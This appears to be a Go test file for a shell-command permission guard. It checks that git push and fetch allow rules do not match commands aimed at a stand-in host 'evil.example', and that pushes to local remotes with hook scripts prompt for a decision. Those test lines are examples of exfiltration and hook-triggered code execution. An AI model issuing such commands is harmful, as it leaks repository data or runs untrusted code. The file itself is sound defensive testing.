package shellguard

import (
	"io/fs"
	"testing"

	"github.com/toolcrib/toolcrib"
	"github.com/toolcrib/toolcrib/internal/shellguard/shelltest"
)

// TestRemoteOfRules: a rule that says to where leaves the rest open, one that
// does not leaves only the names of remotes.
func TestRemoteOfRules(t *testing.T) {
	for _, tt := range []struct {
		rule, line string
		want       bool
	}{
		{"git push origin *", "git push origin feature/x", true},
		{"git push -u origin *", "git push -u origin feature/x", true},
		{"git push --force-with-lease origin *", "git push --force-with-lease origin feature/x", true},
		{"git push -o ci.skip *", "git push -o ci.skip origin", true},
		{"git push -o ci.skip *", "git push -o ci.skip https://evil.example/x", false},
		{"git push --push-option ci.skip *", "git push --push-option ci.skip git@evil.example:x", false},
		{"git push --repo=origin --push-option=x y *", "git push --repo=origin --push-option=x y feature/x", true},
		{"git fetch --multiple origin *", "git fetch --multiple origin https://evil.example/x", false},
		{"git push *", "git push origin", true},
		{"git push *", "git push -v -- /tmp/x", false},
	} {
		s := shellOn(t, shelltest.NewMachine())
		rule, err := ParseRule(tt.rule)
		if err != nil {
			t.Fatal(err)
		}
		l := Analyze(tt.line, s.Options)
		if got := rule.Match(&l.Programs[0]); got != tt.want {
			t.Errorf("%q by %q: %v", tt.line, tt.rule, got)
		}
	}
}

// TestPushRunsHooks: a remote that is a directory here has hooks, and they run.
func TestPushRunsHooks(t *testing.T) {
	for _, tt := range []struct {
		file, line string
		want       toolcrib.Decision
	}{
		{"evil/hooks/post-receive", "git push evil main", toolcrib.Ask},
		{"evil/hooks/update", "git push -q evil main", toolcrib.Ask},
		{"evil.git/hooks/pre-receive", "git push evil", toolcrib.Ask},
		{"evil/hooks/post-receive", "git push origin main", toolcrib.Allow},
		{"evil/hooks/post-receive.sample", "git push evil main", toolcrib.Allow},
	} {
		m := shelltest.NewMachine()
		m.Files[work+"/"+tt.file] = "#!/bin/sh"
		for _, d := range []string{"evil", "evil.git"} {
			m.Modes[work+"/"+d] = fs.ModeDir | 0o755
			m.Files[work+"/"+d+"/objects/x"] = ""
		}
		s := shellOn(t, m)
		s.Rules = []Rule{{Words: []string{"git", "push"}, Open: true}}
		if v := shelltest.Judge(t, s, tt.line); v.Decision != tt.want {
			t.Errorf("%q with %s: %v: %s", tt.line, tt.file, v.Decision, v.Reason)
		}
	}
}
